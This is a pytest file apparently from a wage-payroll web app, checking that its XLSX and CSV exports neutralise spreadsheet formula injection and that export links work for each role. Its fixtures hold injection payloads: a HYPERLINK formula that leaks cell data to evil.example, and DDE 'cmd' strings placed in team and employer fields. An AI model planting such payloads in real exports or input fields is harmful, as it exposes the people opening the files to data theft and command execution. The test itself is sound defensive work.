"""Safe exports: no XLSX/CSV cell is ever a live formula, amounts stay numbers, and every export link on every
page answers 200 for a role in scope."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook
from tests.factories import card_number, id_number, make_region_project, make_team, make_worker

from wageguard.auth.scope import SYSTEM, Principal
from wageguard.complaints.schemas import PhotoIn, parse_complaint_form
from wageguard.complaints.service import submit_complaint
from wageguard.config import Settings
from wageguard.db import Database
from wageguard.exports.cells import csv_cell, csv_row, safe_sheet_title, write_row
from wageguard.payroll.paysheets import drafts_from_api, submit_pay_sheets
from wageguard.payroll.schemas import AccountIn, PayrollIn
from wageguard.payroll.service import open_account
from wageguard.registry.choices import Role
from wageguard.security.crypto import Protector

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
EVIL_TEAM = "+1+cmd|' /C calc'!A0"
ACCOUNT_NO = "6222024000012345678"
MONTH = "2026-10"
TEMPLATES = Path(__file__).parents[2] / "src" / "wageguard" / "web" / "templates"
# exports are linked from pages as API routes or as page routes (/money/...: a 404 page outside scope)
EXPORT_HREF = re.compile(r'href="(/(?:api/v1|money)/[^"]*(?:\.xlsx|\.pdf|\.csv|/photos/\d+)[^"]*)"')
TEMPLATE_EXPORT = re.compile(r'href="/(?:api/v1|money)/[^"]*(?:\.xlsx|\.pdf|\.csv|/photos/)')
JPEG = b"\xff\xd8\xff\xe0" + b"\x01" * 64


@dataclass
class Exports:
    project_id: int
    project_code: str
    enterprise_id: int
    account_id: int
    case_id: int


@pytest.fixture
def exports_world(db: Database, protector: Protector, settings: Settings) -> Exports:
    with db.transaction() as s:
        project, gc = make_region_project(s, "520602", name="碧江导出测试工地")
        team = make_team(s, project=project, enterprise=gc, name=EVIL_TEAM)
        numbers, cards = [id_number(), id_number()], [card_number(), card_number()]
        for name, number, card in zip([EVIL_NAME, "-张三"], numbers, cards, strict=True):
            make_worker(s, protector, project=project, team=team, name=name, number=number, card=card)
        account = open_account(
            session=s,
            principal=SYSTEM,
            protector=protector,
            data=AccountIn(
                account_no=ACCOUNT_NO,
                project_code=project.project_code,
                bank_code="103",
                bank_name="中国农业银行铜仁分行",
                opened_date=date(2026, 3, 1),
                tripartite_date=date(2026, 3, 5),
            ),
        )
        sheet = PayrollIn.model_validate(
            {
                "projectCode": project.project_code,
                "teamSysNo": team.team_sys_no,
                "payMonth": MONTH,
                "detailList": [
                    {
                        "idCardNumber": number,
                        "days": 22,
                        "payRollBankCardNumber": card,
                        "totalPayAmount": "5100.50",
                        "actualAmount": "5000.25",
                    }
                    for number, card in zip(numbers, cards, strict=True)
                ],
            }
        )
        submit_pay_sheets(
            session=s,
            principal=SYSTEM,
            protector=protector,
            drafts=drafts_from_api([sheet]),
            source="api",
            actor="t",
        )
        ids = (project.id, project.project_code, gc.id, account.id)
    form, problems = parse_complaint_form(
        {
            "name": "王建国",
            "id_number": id_number(),
            "phone": "13912345678",
            "employer": "=cmd|' /C calc'!A0",
            "work_start": "2026-03-01",
            "months_owed": "3",
            "amount_owed": "15600.50",
            "workers_affected": "4",
            "description": "六到八月工资一直没发。",
        },
        today=date(2026, 9, 29),
        need_region=False,
    )
    assert form is not None, problems
    receipt = submit_complaint(
        db=db,
        protector=protector,
        settings=settings,
        form=form,
        photos=[PhotoIn("a.jpg", "image/jpeg", JPEG)],
        idem_token="0" * 32,
        project_code=ids[1],
    )
    return Exports(*ids, case_id=receipt.complaint_id)


def _formula_parts(content: bytes) -> list[str]:
    """Sheet XML parts of an XLSX that contain a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def _cells(content: bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _export(client: TestClient, url: str, headers: dict[str, str]) -> bytes:
    r = client.get(url, headers=headers)
    assert r.status_code == 200, (url, r.status_code, r.text[:300])
    return r.content


@pytest.fixture
def admin(make_user: Callable[..., Principal], login: Callable[[str], dict[str, str]]) -> dict[str, str]:
    make_user("root", Role.ADMIN)
    return login("root")


def test_formula_like_names_come_out_as_text_in_the_attendance_sheet(
    client: TestClient, exports_world: Exports, admin: dict[str, str]
) -> None:
    url = f"/api/v1/attendance/sheet.xlsx?project={exports_world.project_code}&month={MONTH}"
    content = _export(client, url, admin)
    assert _formula_parts(content) == []
    cells = {c.value: c for c in _cells(content) if isinstance(c.value, str)}
    for text in (EVIL_NAME, EVIL_TEAM, "-张三"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text  # kept exactly, shown as text
    # the 序号 column (left of each worker's name) stays numeric: 1 and 2 for the two workers
    serials = {c.row: c for c in _cells(content) if c.column == 1}
    numbers = [serials[cells[name].row] for name in (EVIL_NAME, "-张三")]
    assert all(c.data_type == "n" for c in numbers) and sorted(c.value for c in numbers) == [1, 2], numbers


def test_formula_like_names_come_out_as_text_and_amounts_as_numbers_in_the_pay_xlsx(
    client: TestClient, exports_world: Exports, admin: dict[str, str]
) -> None:
    url = f"/api/v1/money/projects/{exports_world.project_id}/pay.xlsx?month={MONTH}"
    content = _export(client, url, admin)
    assert _formula_parts(content) == []
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.values)
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {EVIL_NAME, "-张三", "合计 Total"}
    assert by_name[EVIL_NAME][2] == EVIL_TEAM
    gross, net, paid, gap = (by_name[EVIL_NAME][i] for i in (4, 5, 6, 9))
    assert (gross, net, paid, gap) == (5100.5, 5000.25, 0, 5000.25)
    assert all(isinstance(v, int | float) for v in (gross, net, paid, gap))
    assert by_name["合计 Total"][5] == 10000.5


def test_the_account_summary_xlsx_answers_for_every_account(
    client: TestClient, exports_world: Exports, admin: dict[str, str]
) -> None:
    content = _export(client, f"/api/v1/money/accounts/{exports_world.account_id}/summary.xlsx", admin)
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert "*" not in book.active.title and book.active.title.endswith(ACCOUNT_NO[-4:])
    assert ACCOUNT_NO not in "".join(str(v) for row in book.active.values for v in row)
    assert _formula_parts(content) == []


def test_the_cell_helper_keeps_numbers_and_neutralises_text() -> None:
    book = Workbook()
    sheet = book.active
    row = [
        "=1+1",
        "+86",
        "-3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "普通",
        -12.5,
        Decimal("-3.20"),
        7,
        None,
        date(2026, 1, 2),
    ]
    write_row(sheet, row)
    out = io.BytesIO()
    book.save(out)
    assert _formula_parts(out.getvalue()) == []
    cells = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in cells[:7]] == [*row[:5], "\nx", row[6]]  # XML reads a CR back as LF
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert not cells[6].quotePrefix
    assert [c.value for c in cells[7:10]] == [-12.5, -3.2, 7] and all(c.data_type == "n" for c in cells[7:10])
    assert cells[10].value is None and cells[11].is_date

    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "ok",
    ]
    assert csv_row(["=x", -5, Decimal("-1.50"), None]) == ["'=x", "-5", "-1.50", ""]
    assert safe_sheet_title("6222*******5678 [a]/b?:c\\") == "6222 5678 a b c"
    assert len(safe_sheet_title("x" * 40)) == 31 and safe_sheet_title("***") == "Sheet"


def test_every_export_link_on_every_page_answers_200_for_a_role_in_scope(
    client: TestClient,
    exports_world: Exports,
    make_user: Callable[..., Principal],
    login: Callable[[str], dict[str, str]],
) -> None:
    make_user("root", Role.ADMIN)
    make_user("bj", Role.INSPECTOR, region_code="520602")
    make_user("tr", Role.INSPECTOR, region_code="520600")
    make_user("gc", Role.ENTERPRISE, enterprise_id=exports_world.enterprise_id)
    w = exports_world
    pages = {
        "attendance/sheet.html": f"/attendance/sheet?project={w.project_code}&month={MONTH}",
        "money/account.html": f"/money/accounts/{w.account_id}",
        "money/project_pay.html": f"/money/projects/{w.project_id}?month={MONTH}",
        "cases/detail.html": f"/cases/{w.case_id}",
    }
    linked = {
        p.relative_to(TEMPLATES).as_posix()
        for p in TEMPLATES.rglob("*.html")
        if TEMPLATE_EXPORT.search(p.read_text())
    }
    assert linked == set(pages), "a template links an export this test does not visit"
    roles = {"root": set(pages), "bj": set(pages), "tr": set(pages), "gc": set(pages) - {"cases/detail.html"}}
    for user, templates in roles.items():
        headers = login(user)
        for template in sorted(templates):
            page = client.get(pages[template], headers=headers)
            assert page.status_code == 200, (user, template, page.status_code)
            links = EXPORT_HREF.findall(page.text)
            assert links, (user, template)
            for link in links:
                r = client.get(link.replace("&amp;", "&"), headers=headers)
                assert r.status_code == 200, (user, link, r.status_code, r.text[:200])
                assert r.headers["content-type"].split(";")[0] in {
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                    "image/jpeg",
                }, link
